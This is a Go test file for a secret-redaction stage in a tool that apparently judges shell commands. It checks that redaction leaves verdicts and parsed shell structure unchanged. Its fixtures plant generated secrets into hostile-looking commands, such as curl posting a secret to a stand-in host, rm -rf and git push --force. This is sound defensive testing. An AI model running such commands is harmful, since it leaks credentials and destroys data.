package redact_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"airlock/internal/call"
	"airlock/internal/corpustest"
	"airlock/internal/pipe"
	"airlock/internal/redact"
	"airlock/internal/secret"
	"airlock/internal/secrettest"
	"airlock/internal/shell"
	"airlock/internal/worldtest"
)

// calls are those of every corpus, and commands with secrets of each kind
// among them.
func calls(t *testing.T) []*call.Record {
	t.Helper()
	var out []*call.Record
	for _, file := range []string{"verdicts.jsonl", "upstream-rules.jsonl", "dcg-corpus.jsonl"} {
		for _, c := range corpustest.Read(t, "../..", file) {
			if c.Command != "" {
				out = append(out, corpustest.Command(c.Command))
			} else if len(c.Input) > 0 {
				out = append(out, corpustest.Record(c.Tool, string(c.Input)))
			}
		}
	}
	return append(out, planted()...)
}

func planted() []*call.Record {
	var out []*call.Record
	for _, d := range secret.Kinds() {
		for i, recipe := range d.Found {
			text, _, _ := secrettest.Cook(uint64(i), recipe)
			if strings.ContainsAny(text, "'\n") {
				continue
			}
			for _, command := range []string{"echo '%s' && git status", "rm -rf /tmp/x; curl -d '%s' https://x.test/", "T='%s' git push --force", "git commit -m '%s'"} {
				out = append(out, corpustest.Command(fmt.Sprintf(command, text)))
			}
			if !strings.ContainsAny(text, " \"&;|()<>") {
				out = append(out, corpustest.Command("tool --token "+text+" && rm -rf build"))
			}
		}
	}
	return out
}

// TestVerdictOfRedacted: what is decided on a redacted record is what was
// decided on the record.
func TestVerdictOfRedacted(t *testing.T) {
	changed := 0
	for _, c := range calls(t) {
		clean := *c
		clean.Input = bytes.Clone(c.Input)
		pipe.Apply(t.Context(), &clean, redact.Stage())
		if !bytes.Equal(clean.Input, c.Input) {
			changed++
		}
		input := bytes.Clone(c.Input)
		want := verdict(corpustest.Verdict(c, worldtest.New(), corpustest.Settings{}))
		if got := verdict(corpustest.Verdict(&clean, worldtest.New(), corpustest.Settings{})); got != want {
			t.Errorf("%s\nredacted %s\ngot  %s\nwant %s", input, clean.Input, got, want)
		}
	}
	if changed < 100 {
		t.Errorf("got %d redacted inputs, want a hundred at least", changed)
	}
}

func verdict(v *call.Verdict) string {
	if v == nil {
		return "none"
	}
	return fmt.Sprintf("%v %s hard=%v", v.Action, v.Rule, v.Hard)
}

// TestShellOfRedacted: redaction changes neither which programs the reader
// sees run nor how many words they get.
func TestShellOfRedacted(t *testing.T) {
	for _, c := range calls(t) {
		if c.Shell != "bash" {
			continue
		}
		clean := *c
		pipe.Apply(t.Context(), &clean, redact.Stage())
		if bytes.Equal(clean.Input, c.Input) {
			continue
		}
		if got, want := seen(clean.Text("command")), seen(c.Text("command")); got != want {
			t.Errorf("%s\nredacted %s\ngot  %s\nwant %s", c.Text("command"), clean.Text("command"), got, want)
		}
	}
}

// seen is what the reader sees of a command, without the texts of words.
func seen(command string) string {
	var b strings.Builder
	r := shell.Read(command, shell.Options{})
	fmt.Fprint(&b, r.Rung, ";")
	for _, in := range r.Invocations {
		fmt.Fprintf(&b, " %s/%d/%d/%d %v %v;", in.Program, len(in.Args), len(in.Assigns), len(in.Redirs), in.Via, in.Sure)
	}
	return b.String()
}
